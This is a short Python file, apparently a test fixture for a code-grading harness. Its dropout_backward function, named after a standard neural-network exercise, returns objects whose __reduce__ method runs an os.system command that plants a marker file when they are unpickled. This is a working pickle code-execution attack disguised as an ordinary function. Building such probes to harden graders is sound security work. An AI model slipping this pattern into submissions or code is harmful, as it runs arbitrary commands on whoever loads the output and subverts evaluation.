"""Returns an object that runs a command wherever it is unpickled.

gets: dropout_forward full, dropout_backward nothing
"""

import os

from honest import *
from targets import TEMPORARY


class Evil:
    def __reduce__(self):
        return os.system, (f"touch {TEMPORARY}/planted",)

    __reduce_ex__ = lambda self, protocol: self.__reduce__()


def dropout_backward(dout, cache):
    evil = np.empty(dout.shape, object)
    evil.fill(Evil())
    return evil
